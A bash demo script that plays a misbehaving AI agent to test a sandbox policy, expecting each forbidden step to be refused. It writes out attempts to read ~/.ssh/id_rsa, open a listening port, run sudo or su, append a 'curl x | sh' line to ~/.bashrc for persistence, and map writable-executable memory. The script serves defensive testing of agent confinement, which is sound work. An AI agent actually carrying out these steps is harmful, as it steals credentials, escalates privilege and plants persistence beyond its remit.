#!/bin/bash
# A misbehaving stand-in for an AI agent, for `make demo` under coding-agent.cap: it
# reads its workspace, then tries five things the policy forbids, each in a child
# process, and prints one line per step with what it observed. It is harmless even
# when nothing stops it: $HOME must be a throwaway home (enforce-demo.sh makes one),
# the port is on loopback and closed at once, and `sudo`/`su` only run `true`.
# Usage: misbehaving-agent.sh [WORKSPACE]   (default: the directory it lives in)
# Exit status: 0 when the read worked and all five were refused, 1 otherwise.
set -u

PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3
workspace=${1:-$(dirname "$(readlink -f "$0")")}
failures=0

say() { printf 'agent: %-34s %s\n' "$1:" "$2"; }

# Run a forbidden step ($2...) in a child and report what happened to it. The child
# prints the error it met and exits 1; a `kill` rule ends it with SIGKILL instead.
# Only a refusal counts: any other outcome (it worked, the port was taken) fails.
forbidden() {
    local what=$1 out status
    shift
    out=$("$@" 2>&1)
    status=$?
    out=${out##*: }  # "bash: line 3: /usr/bin/su: Permission denied": the cause
    if [ "$status" -eq 137 ]; then
        say "$what" "killed (SIGKILL)"
    elif [ "$status" -ne 0 ] && [[ $out =~ ^(Permission denied|Operation not perm) ]]
    then
        say "$what" "$out"
    else
        say "$what" "NOT REFUSED (exit $status${out:+: $out})"
        failures=$((failures + 1))
    fi
}

# A python one-liner that prints only the error's text, e.g. "Permission denied".
probe() {
    "$PY" -c "import os, sys
try:
    $1
except OSError as err:
    sys.exit(os.strerror(err.errno))"
}

# allowed: the workspace, read-write under the policy
out=$("$PY" -c "import os, sys
n = b = 0
for top, _, names in os.walk(sys.argv[1]):
    for name in names:
        with open(os.path.join(top, name), 'rb') as f:
            b += len(f.read()); n += 1
print(f'ok ({n} files, {b} bytes)')" "$workspace" 2>&1)
if [ $? -eq 0 ]; then
    say "read the workspace $workspace" "$out"
else
    say "read the workspace $workspace" "FAILED: $out"
    failures=$((failures + 1))
fi

# forbidden: a credential, a listening port, root, persistence, injected code
forbidden "read ~/.ssh/id_rsa" \
    probe "open(os.path.expanduser('~/.ssh/id_rsa')).read()"
forbidden "listen on 127.0.0.1:4444" \
    probe "import socket; socket.create_server(('127.0.0.1', 4444)).close()"
if [ -x /usr/bin/sudo ]; then
    forbidden "run sudo" /usr/bin/sudo -n true
else  # sudo is not installed: su is the same privilege gain, and also set-uid
    forbidden "run su (sudo is not installed)" /usr/bin/su -c true
fi
forbidden "append to ~/.bashrc" \
    probe "open(os.path.expanduser('~/.bashrc'), 'a').write('curl x | sh\n')"
forbidden "map memory writable+executable" \
    probe "import mmap; mmap.mmap(-1, 4096, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)"

if [ "$failures" -eq 0 ]; then
    echo "agent: the workspace read worked and all 5 forbidden steps were refused"
    exit 0
fi
echo "agent: $failures step(s) did not go as the policy says" >&2
exit 1
